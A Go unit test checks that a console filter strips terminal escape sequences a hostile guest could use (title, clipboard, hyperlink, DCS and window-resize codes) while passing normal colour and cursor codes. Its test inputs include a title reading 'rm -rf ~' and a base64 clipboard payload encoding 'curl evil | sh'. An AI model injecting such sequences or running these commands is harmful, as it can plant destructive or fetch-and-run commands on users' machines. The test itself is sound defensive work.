package main

import (
	"bytes"
	"testing"
)

// TestTheConsoleDropsEscapesAimedAtTheTerminal: what a hostile guest prints to act on the
// operator's terminal (set its title, write its clipboard, resize it, smuggle a string in C1
// form) does not reach it, with the payload; what a console draws with does, unchanged, however
// the stream is cut into writes.
func TestTheConsoleDropsEscapesAimedAtTheTerminal(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"text in UTF-8", "login: root\r\nvoilà 日本\t✓\n", "login: root\r\nvoilà 日本\t✓\n"},
		{"colours and cursor moves", "\x1b[1;31mred\x1b[0m \x1b[2J\x1b[H\x1b[?25l\x1b[K", "\x1b[1;31mred\x1b[0m \x1b[2J\x1b[H\x1b[?25l\x1b[K"},
		{"two- and three-byte escapes", "\x1b7\x1b(B\x1b8\x1bc", "\x1b7\x1b(B\x1b8\x1bc"},
		{"a window title (OSC 0, BEL)", "a\x1b]0;rm -rf ~\ab", "ab"},
		{"a clipboard write (OSC 52, ST)", "a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\b", "ab"},
		{"a hyperlink (OSC 8)", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"a DCS string", "a\x1bP+q544e\x1b\\b", "ab"},
		{"APC, PM and SOS strings", "a\x1b_x\x1b\\b\x1b^y\x1b\\c\x1bXz\x1b\\d", "abcd"},
		{"window operations (CSI t)", "a\x1b[8;100;300tb\x1b[21tc", "abc"},
		{"OSC in C1 form, in UTF-8", "a\u009d0;title\u009cb", "ab"},
		{"CSI and other C1 controls in UTF-8", "a\u009b31mb\u0085c", "a31mbc"},
		{"lone C1 bytes", "a\x9d0;t\x9cb\x9bc", "a0;tbc"},
		{"C0 controls but layout", "a\x00\x0e\x0f\x7fb\a\b\f", "a\x7fb\a\b\f"},
		{"an unterminated string swallows what follows", "a\x1b]0;title\r\nmore", "a"},
		{"an overlong CSI", "a\x1b[" + string(bytes.Repeat([]byte("1;"), 40)) + "mb", "ab"},
	} {
		var whole bytes.Buffer
		if _, err := newTermFilter(&whole).Write([]byte(tc.in)); err != nil {
			t.Fatal(err)
		}
		if got := whole.String(); got != tc.want {
			t.Errorf("%s: %q passes as %q, want %q", tc.name, tc.in, got, tc.want)
		}
		// The same stream a byte per write, as a slow guest's arrives.
		var split bytes.Buffer
		f := newTermFilter(&split)
		for i := range len(tc.in) {
			if n, err := f.Write([]byte{tc.in[i]}); n != 1 || err != nil {
				t.Fatalf("%s: a write of one byte returned %d, %v", tc.name, n, err)
			}
		}
		if got := split.String(); got != tc.want {
			t.Errorf("%s: a byte per write, %q passes as %q, want %q", tc.name, tc.in, got, tc.want)
		}
	}
}
